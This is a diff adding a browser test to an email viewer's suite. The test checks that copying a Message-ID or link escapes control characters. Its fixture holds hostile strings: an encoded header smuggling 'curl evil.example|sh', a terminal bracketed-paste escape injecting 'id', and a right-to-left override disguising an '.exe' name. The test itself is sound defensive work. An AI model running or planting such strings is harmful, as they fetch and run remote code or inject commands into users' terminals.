@@ -152,6 +152,28 @@ test("What is copied shifts nothing, and Space copies an address, too", async ()
   expect(await page.locator("#subject").boundingBox()).toEqual(before);
 });
 
+test("What a stranger wrote is copied as one line, without a character that acts", async () => {
+  const id = "Message-ID: =?utf-8?q?=3C1=40x=3E=0Acurl_evil.example|sh=0A?=";
+  const { page } = await openEmail(browser, emailOf("Acts", id, "", "http://a.example/\u001b[201~;id\u202egnp.exe"));
+  const copiedBy = async (click: () => Promise<void>): Promise<string> => {
+    await page.evaluate("navigator.clipboard.writeText('')");
+    await click();
+    await expect.poll(() => copied(page)).not.toBe("");
+    return copied(page);
+  };
+
+  const copies = [
+    await copiedBy(() => page.getByRole("button", { name: "Copy Message-ID" }).click()),
+    await copiedBy(() => page.getByRole("button", { name: "Copy for engineering" }).click()),
+    await copiedBy(() => page.locator("#part .address").first().click()),
+  ];
+
+  expect(copies[0]).toBe("<1@x>\\u000acurl evil.example|sh\\u000a");
+  expect(copies[2]).toBe("http://a.example/");
+  expect(copies.filter((text) => /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u.test(text))).toEqual([]);
+  expect(await page.locator("#part").innerText()).toContain("\\u001b[201~;id\\u202egnp.exe");
+});
+
 test.each([
   ["desktop", desktop],
   ["phone", phone],
